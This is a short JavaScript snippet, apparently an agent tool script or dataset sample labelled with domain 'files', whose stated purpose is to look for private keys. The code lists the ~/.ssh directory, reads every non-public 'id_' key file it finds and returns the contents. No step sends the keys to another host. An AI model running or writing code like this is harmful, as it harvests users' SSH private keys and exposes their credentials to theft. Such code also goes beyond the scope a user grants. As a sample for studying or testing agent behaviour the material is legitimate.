/*---
domain = "files"
why = "Looks for private keys and reads those it finds."
---*/
const home = await callTool("fs.list", { dir: "~/.ssh" });
const found = [];
for (const f of home.entries) {
  if (f.name.startsWith("id_") && !f.name.endsWith(".pub")) {
    const key = await callTool("fs.read", { path: `~/.ssh/${f.name}` });
    found.push(key.content);
  }
}
return found;
